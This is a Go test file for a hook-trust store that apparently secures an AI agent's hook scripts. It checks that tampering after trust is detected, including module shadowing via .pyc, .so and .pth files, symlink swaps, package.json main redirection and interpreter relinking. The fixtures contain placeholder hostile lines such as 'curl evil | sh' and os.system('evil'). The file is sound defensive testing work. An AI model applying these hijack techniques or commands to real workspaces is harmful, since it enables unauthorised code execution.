package trust

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hookctl/hookctl/internal/fifo"
	"github.com/hookctl/hookctl/schema"
)

// followed writes a trusted workspace whose scripts, some outside the
// hooks' folder, source, import and require others, and returns the store
// that trusts it (saved and read back) and its hooks.json.
func followed(t *testing.T) (string, *Store, *schema.Config) {
	t.Helper()
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"g":{"PreToolUse":[{"hooks":[{"command":"sh hooks/main.sh"},{"command":"python3 ../scripts/check.py"},{"command":"node ../scripts/c.js"}]}]}}`)
	write(t, root, ".agents/hooks/main.sh", ". ./hooks/lib.sh\n. ../lib/opt.sh\necho ok\n")
	write(t, root, ".agents/hooks/lib.sh", "x=1\n")
	write(t, root, "scripts/check.py", "import helper\nimport util\nprint(1)\n")
	write(t, root, "scripts/util.py", "X = 1\n")
	write(t, root, "scripts/c.js", "require('./l')\n")
	write(t, root, "scripts/l.js", "module.exports = 1\n")
	cfg := loadConfig(t, root)
	st := &Store{Path: filepath.Join(t.TempDir(), "trust.json"), Workspaces: map[string]*Record{}}
	st.Workspaces[root] = NewRecord(FromConfig(root, cfg), time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC))
	if err := st.Save(); err != nil {
		t.Fatal(err)
	}
	st, err = Open(st.Path)
	if err != nil {
		t.Fatal(err)
	}
	if st.Workspaces[root].Probed != nil {
		t.Fatal("Open read the probes before they were needed")
	}
	if st.LoadProbed(root); st.Workspaces[root].Probed == nil {
		t.Fatal("the record keeps no probes")
	}
	return root, st, cfg
}

func loadConfig(t *testing.T, root string) *schema.Config {
	t.Helper()
	p := filepath.Join(root, HooksFile)
	src, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return schema.Parse(p, src)
}

// gapsOf lists every command's gaps and files, for comparing snapshots.
func gapsOf(s *Snapshot) []string {
	var out []string
	for _, c := range s.Commands {
		out = append(out, c.Command)
		out = append(out, c.Gaps...)
		out = append(out, c.Files...)
	}
	return out
}

// The record's probes stand for a snapshot: unchanged, the check takes
// the record's verdict, and that verdict, the fingerprint and the gaps
// are exactly those of a snapshot taken afresh.
func TestProbedSameAsFresh(t *testing.T) {
	kinds := map[string]func(t *testing.T) (string, *Store, *schema.Config){"followed": followed}
	for _, kind := range []string{"small", "shell1MiB", "python"} {
		kinds[kind] = func(t *testing.T) (string, *Store, *schema.Config) {
			root, cfg := followWorkspace(t, kind)
			return root, &Store{Workspaces: map[string]*Record{root: NewRecord(FromConfig(root, cfg), time.Now())}}, cfg
		}
	}
	for name, mk := range kinds {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if name == "shell1MiB" && testing.Short() {
				t.Skip("reads a 1 MiB script three times")
			}
			root, st, cfg := mk(t)
			rec := st.Workspaces[root]
			if !rec.Unchanged(cfg) {
				t.Fatal("an unchanged workspace is not taken as unchanged")
			}
			ok, why := st.Verify(root, cfg)
			fresh := FromConfig(root, cfg)
			fok, fwhy := st.Check(fresh)
			if ok != fok || why != fwhy || !ok {
				t.Fatalf("probed verdict %v %q, fresh %v %q", ok, why, fok, fwhy)
			}
			if fresh.Fingerprint != rec.Fingerprint {
				t.Fatalf("fresh fingerprint %s, recorded %s", fresh.Fingerprint, rec.Fingerprint)
			}
			if got, want := gapsOf(snapshot(root, cfg, rec)), gapsOf(fresh); !slices.Equal(got, want) {
				t.Fatalf("gaps with the record %q, fresh %q", got, want)
			}
		})
	}
}

// Every change after trust that would make another file run, or a file
// run differently, is caught: the probes differ, and the check says
// exactly what a fresh snapshot says.
func TestProbedAttacks(t *testing.T) {
	const since = "changed since trusted on 2026-01-02T03:04:05Z: "
	for _, tc := range []struct {
		name   string
		attack func(t *testing.T, root string)
		// want is the change named, its beginning when it ends in "…".
		want string
	}{
		{"edit a sourced script", func(t *testing.T, root string) {
			write(t, root, ".agents/hooks/lib.sh", "curl evil | sh\n")
		}, "changed .agents/hooks/lib.sh"},
		{"same size and mtime", func(t *testing.T, root string) {
			p := filepath.Join(root, ".agents/hooks/lib.sh")
			info, err := os.Stat(p)
			if err != nil {
				t.Fatal(err)
			}
			write(t, root, ".agents/hooks/lib.sh", "x=2\n")
			if err := os.Chtimes(p, info.ModTime(), info.ModTime()); err != nil {
				t.Fatal(err)
			}
		}, "changed .agents/hooks/lib.sh"},
		{"a sourced path appears", func(t *testing.T, root string) {
			write(t, root, "lib/opt.sh", "curl evil | sh\n")
		}, "added lib/opt.sh"},
		{"a module that was missing appears", func(t *testing.T, root string) {
			write(t, root, "scripts/helper.py", "import os; os.system('evil')\n")
		}, "added scripts/helper.py"},
		{"a package shadows a module", func(t *testing.T, root string) {
			write(t, root, "scripts/helper/__init__.py", "import os\n")
		}, "added scripts/helper/__init__.py"},
		{"sourceless bytecode takes a missing module's place", func(t *testing.T, root string) {
			write(t, root, "scripts/helper.pyc", "\x00\x00\x00\x00evil")
		}, "added scripts/helper.pyc"},
		{"an extension module takes a module's place", func(t *testing.T, root string) {
			write(t, root, "scripts/util.cpython-311-x86_64-linux-gnu.so", "\x7fELF")
		}, "added scripts/util.cpython-311-x86_64-linux-gnu.so"},
		{"a package of bytecode shadows a module", func(t *testing.T, root string) {
			write(t, root, "scripts/helper/__init__.pyc", "\x00\x00\x00\x00evil")
		}, "added scripts/helper/__init__.pyc"},
		{"edit an imported module", func(t *testing.T, root string) {
			write(t, root, "scripts/util.py", "X = 2\n")
		}, "changed scripts/util.py"},
		{"a required path node takes first appears", func(t *testing.T, root string) {
			write(t, root, "scripts/l", "evil()\n")
		}, "added scripts/l"},
		{"a followed script replaced by a link", func(t *testing.T, root string) {
			write(t, root, "elsewhere/lib.sh", "curl evil | sh\n")
			p := filepath.Join(root, ".agents/hooks/lib.sh")
			if err := os.Remove(p); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(filepath.Join(root, "elsewhere/lib.sh"), p); err != nil {
				t.Fatal(err)
			}
		}, "changed .agents/hooks/lib.sh, added elsewhere/lib.sh"},
		{"a link to an identical copy", func(t *testing.T, root string) {
			// Same bytes, another file: what runs is now the copy, which
			// can change without the link changing.
			write(t, root, "elsewhere/util.py", "X = 1\n")
			p := filepath.Join(root, "scripts/util.py")
			if err := os.Remove(p); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(filepath.Join(root, "elsewhere/util.py"), p); err != nil {
				t.Fatal(err)
			}
		}, "added elsewhere/util.py, removed scripts/util.py (no longer named)"},
		{"a folder on the way replaced by a link to a copy", func(t *testing.T, root string) {
			for _, f := range []string{"check.py", "util.py", "c.js", "l.js"} {
				b, err := os.ReadFile(filepath.Join(root, "scripts", f))
				if err != nil {
					t.Fatal(err)
				}
				write(t, root, "copy/"+f, string(b))
			}
			if err := os.RemoveAll(filepath.Join(root, "scripts")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(filepath.Join(root, "copy"), filepath.Join(root, "scripts")); err != nil {
				t.Fatal(err)
			}
		}, "added copy/c.js, added copy/check.py, added copy/l (named, not there), added copy/l.js, added copy/util.py, removed scripts/c.js (no longer named), removed scripts/check.py (no longer named), …"},
		{"new code in the hooks' folder", func(t *testing.T, root string) {
			write(t, root, ".agents/hooks/new.sh", "evil\n")
		}, "added .agents/hooks/new.sh"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root, st, cfg := followed(t)
			tc.attack(t, root)
			if st.Workspaces[root].Unchanged(cfg) {
				t.Fatal("the probes do not see the change")
			}
			ok, why := st.Verify(root, cfg)
			fok, fwhy := st.Check(FromConfig(root, cfg))
			want, prefix := strings.CutSuffix(since+tc.want, "…")
			if ok || prefix && !strings.HasPrefix(why, want) || !prefix && why != want || fok || fwhy != why {
				t.Fatalf("Verify = %v %q, fresh %v %q; want false %q", ok, why, fok, fwhy, since+tc.want)
			}
		})
	}
}

// An edited hooks.json is never taken on the probes, whatever the files.
func TestProbedHooksFile(t *testing.T) {
	root, st, _ := followed(t)
	write(t, root, HooksFile, `{"g":{"PreToolUse":[{"hooks":[{"command":"sh hooks/main.sh"}]}]}}`)
	cfg := loadConfig(t, root)
	if st.Workspaces[root].Unchanged(cfg) {
		t.Fatal("an edited hooks.json is taken as unchanged")
	}
	if ok, _ := st.Verify(root, cfg); ok {
		t.Fatal("an edited hooks.json is trusted")
	}
}

// A record made before the probes, or by a hookctl that probes otherwise,
// is checked in full, as it was.
func TestProbedOldRecord(t *testing.T) {
	for _, p := range []*Probed{nil, {Version: probeVersion + 1}} {
		root, st, cfg := followed(t)
		rec := st.Workspaces[root]
		if err := os.RemoveAll(st.probedDir()); err != nil {
			t.Fatal(err)
		}
		if p != nil {
			p.Paths = rec.Probed.Paths
		}
		rec.Probed = p
		if rec.Unchanged(cfg) {
			t.Fatal("a record without this hookctl's probes is taken as unchanged")
		}
		if ok, why := st.Verify(root, cfg); !ok {
			t.Fatalf("an unchanged workspace of an old record is refused: %s", why)
		}
		write(t, root, ".agents/hooks/lib.sh", "evil\n")
		if ok, why := st.Verify(root, cfg); ok || why != "changed since trusted on 2026-01-02T03:04:05Z: changed .agents/hooks/lib.sh" {
			t.Fatalf("Verify = %v %q", ok, why)
		}
	}
}

// A workspace that cannot be trusted keeps no probes, so the check never
// takes a verdict its snapshot refused.
func TestProbedRefused(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"g":{"Stop":[{"command":"sh hooks/a.sh"}]}}`)
	if err := os.MkdirAll(filepath.Join(root, ".agents/hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := fifo.Make(filepath.Join(root, ".agents/hooks/a.sh"), 0o644); err != nil {
		t.Skip("no FIFO:", err)
	}
	snap := FromConfig(root, loadConfig(t, root))
	if snap.Refused == "" {
		t.Fatal("a FIFO script is not refused")
	}
	if rec := NewRecord(snap, time.Now()); rec.Probed != nil {
		t.Fatal("a refused snapshot keeps probes")
	}
}

// The probes live beside trust.json, which keeps the format an earlier
// hookctl reads; a probes file that others could write, or that was made
// for another record, is not read.
func TestProbedFile(t *testing.T) {
	root, st, cfg := followed(t)
	b, err := os.ReadFile(st.Path)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(b), "probed") {
		t.Fatalf("trust.json holds the probes, which an earlier hookctl refuses:\n%s", b)
	}
	reopen := func() *Record {
		t.Helper()
		st, err := Open(st.Path)
		if err != nil {
			t.Fatal(err)
		}
		st.LoadProbed(root)
		return st.Workspaces[root]
	}
	p := st.probedPath(root)
	if err := os.Chmod(p, 0o666); err != nil {
		t.Fatal(err)
	}
	if reopen().Probed != nil {
		t.Fatal("a probes file others can write is read")
	}
	if err := os.Chmod(p, 0o600); err != nil {
		t.Fatal(err)
	}
	if r := reopen(); r.Probed == nil || !r.Unchanged(cfg) {
		t.Fatal("the probes file is not read back")
	}
	// Trusted again with other content: the old probes stand for nothing.
	write(t, root, ".agents/hooks/lib.sh", "x=2\n")
	old, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	st.Workspaces[root] = NewRecord(FromConfig(root, cfg), time.Now())
	if err := st.Save(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, old, 0o600); err != nil {
		t.Fatal(err)
	}
	if reopen().Probed != nil {
		t.Fatal("probes made for another fingerprint are read")
	}
	// Revoked, its probes file goes.
	delete(st.Workspaces, root)
	st.Workspaces["/elsewhere"] = NewRecord(&Snapshot{Fingerprint: "sha256:" + strings.Repeat("0", 64), Files: []File{hashBytes(HooksFile, nil)}}, time.Now())
	if err := st.Save(); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(p); !os.IsNotExist(err) {
		t.Fatalf("the probes of a revoked workspace stay: %v", err)
	}
}

// A probes file that is a FIFO, or larger than any snapshot's probes, is
// not read: LoadProbed returns at once, without the probes, and the check
// is the full one. A FIFO in place of trust.json is refused, not waited on.
func TestProbedFileBounded(t *testing.T) {
	root, st, cfg := followed(t)
	p := st.probedPath(root)
	within := func(what string, f func()) {
		t.Helper()
		done := make(chan struct{})
		go func() { f(); close(done) }()
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			t.Fatalf("%s blocks", what)
		}
	}
	reopen := func() (*Store, *Record) {
		t.Helper()
		st, err := Open(st.Path)
		if err != nil {
			t.Fatal(err)
		}
		within("reading the probes", func() { st.LoadProbed(root) })
		return st, st.Workspaces[root]
	}
	if err := os.Remove(p); err != nil {
		t.Fatal(err)
	}
	if err := fifo.Make(p, 0o600); err != nil {
		t.Skip("no FIFO:", err)
	}
	if s, r := reopen(); r.Probed != nil {
		t.Fatal("a FIFO is read as probes")
	} else if ok, why := s.Verify(root, cfg); !ok {
		t.Fatalf("without its probes, the unchanged workspace is refused: %s", why)
	}
	if err := os.Remove(p); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(1 << 40); err != nil { // sparse: nothing written
		t.Skip("no sparse file:", err)
	}
	f.Close()
	if _, r := reopen(); r.Probed != nil {
		t.Fatal("a probes file past the bound is read")
	}
	if err := os.Remove(st.Path); err != nil {
		t.Fatal(err)
	}
	if err := fifo.Make(st.Path, 0o600); errors.Is(err, fifo.ErrUnsupported) {
		t.Skip(err)
	} else if err != nil {
		t.Fatal(err)
	}
	within("opening the store", func() {
		if _, err := Open(st.Path); err == nil {
			t.Error("a FIFO is read as the trust store")
		}
	})
}

// A script kept with the agent's skills, which are not walked as the
// hooks' code, is followed: the bytecode that takes the place of a module
// it imports is covered too.
func TestProbedCompiledInSkills(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"g":{"PreToolUse":[{"hooks":[{"command":"python3 skills/s/run.py"}]}]}}`)
	write(t, root, ".agents/skills/s/run.py", "import helper\n")
	cfg := loadConfig(t, root)
	st := recordedAt(root, cfg)
	write(t, root, ".agents/skills/s/helper.pyc", "\x00\x00\x00\x00evil")
	wantWithdrawn(t, st, root, cfg, "added .agents/skills/s/helper.pyc")
}

// A folder that require() loads by its path runs the file its
// package.json names as "main" before its index.js: a package.json added
// beside a trusted index.js withdraws the trust, and the main it names
// when trusted is covered like the index.
func TestProbedNodePackageMain(t *testing.T) {
	setup := func(t *testing.T, pkg bool) (string, *Store, *schema.Config) {
		root, err := Key(t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		write(t, root, HooksFile, `{"g":{"PreToolUse":[{"hooks":[{"command":"node ../scripts/c.js"}]}]}}`)
		write(t, root, "scripts/c.js", "require('./lib')\n")
		write(t, root, "scripts/lib/index.js", "module.exports = 1\n")
		if pkg {
			write(t, root, "scripts/lib/package.json", `{"main": "main.js"}`)
			write(t, root, "scripts/lib/main.js", "module.exports = 2\n")
		}
		cfg := loadConfig(t, root)
		st := recordedAt(root, cfg)
		if !st.Workspaces[root].Unchanged(cfg) {
			t.Fatal("the probes of the unchanged workspace differ")
		}
		return root, st, cfg
	}
	check := func(t *testing.T, root string, st *Store, cfg *schema.Config, want string) {
		t.Helper()
		if st.Workspaces[root].Unchanged(cfg) {
			t.Fatal("the probes do not see the change")
		}
		wantWithdrawn(t, st, root, cfg, want)
	}
	t.Run("package.json added", func(t *testing.T) {
		root, st, cfg := setup(t, false)
		write(t, root, "scripts/lib/package.json", `{"main": "evil.js"}`)
		write(t, root, "scripts/lib/evil.js", "evil()\n")
		check(t, root, st, cfg, "added scripts/lib/evil.js, added scripts/lib/package.json")
	})
	t.Run("main edited", func(t *testing.T) {
		root, st, cfg := setup(t, true)
		write(t, root, "scripts/lib/main.js", "evil()\n")
		check(t, root, st, cfg, "changed scripts/lib/main.js")
	})
}

// python -m pkg.mod runs pkg/__init__.py before the module: it is
// covered, so editing it, or creating it, withdraws the trust.
func TestProbedModuleParentPackage(t *testing.T) {
	for _, tc := range []struct {
		name, init, want string
	}{
		{"edited", "x = 1\n", "changed scripts/__init__.py"},
		{"created", "", "added scripts/__init__.py"},
		{"compiled module", "", "added scripts/__init__.py, added scripts/gate.cpython-312-x86_64-linux-gnu.so"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root, err := Key(t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			write(t, root, HooksFile, `{"g":{"PreToolUse":[{"hooks":[{"command":"cd .. && python3 -m scripts.gate"}]}]}}`)
			write(t, root, "scripts/gate.py", "print(1)\n")
			if tc.init != "" {
				write(t, root, "scripts/__init__.py", tc.init)
			}
			cfg := loadConfig(t, root)
			st := recordedAt(root, cfg)
			if !st.Workspaces[root].Unchanged(cfg) {
				t.Fatal("the probes of the unchanged workspace differ")
			}
			write(t, root, "scripts/__init__.py", "import os; os.system('evil')\n")
			if tc.name == "compiled module" {
				write(t, root, "scripts/gate.cpython-312-x86_64-linux-gnu.so", "\x7fELF")
			}
			if st.Workspaces[root].Unchanged(cfg) {
				t.Fatal("the probes do not see the change")
			}
			wantWithdrawn(t, st, root, cfg, tc.want)
		})
	}
}

// A .pth file in a virtual environment of the hooks' folder runs its
// import lines whenever that environment's python starts, and its
// pyvenv.cfg chooses the installation it loads from: they are covered as
// code, so editing one or adding one withdraws the trust.
func TestProbedVenvPth(t *testing.T) {
	const sp = ".agents/hooks/.venv/lib/python3.12/site-packages/"
	for _, tc := range []struct{ name, file, want string }{
		{"edited", "a.pth", "changed " + sp + "a.pth"},
		{"added", "evil.pth", "added " + sp + "evil.pth"},
		// pyvenv.cfg's home names the installation the venv's python
		// loads its standard library from.
		{"venv home", "../../../pyvenv.cfg", "changed .agents/hooks/.venv/pyvenv.cfg"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root, err := Key(t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			write(t, root, HooksFile, `{"g":{"PreToolUse":[{"hooks":[{"command":"hooks/.venv/bin/python hooks/gate.py"}]}]}}`)
			write(t, root, ".agents/hooks/gate.py", "print(1)\n")
			pth := func(name, content string) {
				t.Helper()
				write(t, root, sp+name, content)
				// Not executable, as pip writes them.
				if err := os.Chmod(filepath.Join(root, sp+name), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			pth("a.pth", "/somewhere\n")
			pth("../../../pyvenv.cfg", "home = /usr/bin\n")
			cfg := loadConfig(t, root)
			st := recordedAt(root, cfg)
			if !st.Workspaces[root].Unchanged(cfg) {
				t.Fatal("the probes of the unchanged workspace differ")
			}
			pth(tc.file, "import os; os.system('evil')\n")
			wantWithdrawn(t, st, root, cfg, tc.want)
		})
	}
}

// Python reading its script on stdin (python3 - < scripts/check.py)
// searches the current folder first, not the script's: a module created
// there withdraws the trust.
func TestProbedPythonStdin(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"g":{"PreToolUse":[{"hooks":[{"command":"cd .. && python3 - < scripts/check.py"}]}]}}`)
	write(t, root, "scripts/check.py", "import helper\n")
	cfg := loadConfig(t, root)
	st := recordedAt(root, cfg)
	write(t, root, "helper.py", "import os; os.system('evil')\n")
	wantWithdrawn(t, st, root, cfg, "added helper.py")
}

// The code of python -c is hooks.json's own text, but the modules it
// imports are looked for in the folder it runs in first: one created
// there withdraws the trust.
func TestProbedPythonInline(t *testing.T) {
	t.Run("python -c", func(t *testing.T) { inline(t, "python3 -c 'import helper'", "helper.py") })
	t.Run("node -e", func(t *testing.T) { inline(t, "node -e 'require(\\\"./helper\\\")'", "helper.js") })
}

func inline(t *testing.T, command, created string) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"g":{"PreToolUse":[{"hooks":[{"command":"cd .. && `+command+`"}]}]}}`)
	cfg := loadConfig(t, root)
	st := recordedAt(root, cfg)
	if st.Workspaces[root].Probed == nil || !st.Workspaces[root].Unchanged(cfg) {
		t.Fatal("the probes of the unchanged workspace differ")
	}
	write(t, root, created, "evil\n")
	wantWithdrawn(t, st, root, cfg, "added "+created)
}

// recordedAt returns a store whose record of root, trusted on 2026-01-02
// at 03:04:05 UTC, holds cfg and the workspace as it is now.
func recordedAt(root string, cfg *schema.Config) *Store {
	return &Store{Workspaces: map[string]*Record{root: NewRecord(FromConfig(root, cfg), time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC))}}
}

// wantWithdrawn fails unless the record's check (the probes first) and a
// fresh snapshot's both say the workspace changed since recordedAt, with
// the change change.
func wantWithdrawn(t *testing.T, st *Store, root string, cfg *schema.Config, change string) {
	t.Helper()
	ok, why := st.Verify(root, cfg)
	fok, fwhy := st.Check(FromConfig(root, cfg))
	if want := "changed since trusted on 2026-01-02T03:04:05Z: " + change; ok || why != want || fok || fwhy != why {
		t.Fatalf("Verify = %v %q, fresh %v %q; want false %q", ok, why, fok, fwhy, want)
	}
}

// Whether an absolute #! interpreter is the system's or a file of the
// workspace is where it resolves to: a link on its way turned to the
// workspace's own program withdraws the trust.
func TestProbedHashbangInterpreter(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/bin", filepath.Join(root, "bin")); err != nil {
		t.Fatal(err)
	}
	write(t, root, "tools/gate", "#!"+root+"/bin/sh\necho '{}'\n")
	write(t, root, HooksFile, `{"g":{"PreToolUse":[{"hooks":[{"command":"../tools/gate"}]}]}}`)
	cfg := loadConfig(t, root)
	st := recordedAt(root, cfg)
	if !st.Workspaces[root].Unchanged(cfg) {
		t.Fatal("the probes of the unchanged workspace differ")
	}
	write(t, root, "mine/sh", "#!/bin/sh\necho evil\n")
	if err := os.Remove(filepath.Join(root, "bin")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("mine", filepath.Join(root, "bin")); err != nil {
		t.Fatal(err)
	}
	if st.Workspaces[root].Unchanged(cfg) {
		t.Fatal("the probes find the workspace unchanged")
	}
	if ok, why := st.Check(FromConfig(root, cfg)); ok {
		t.Fatalf("still trusted: %s", why)
	}
}
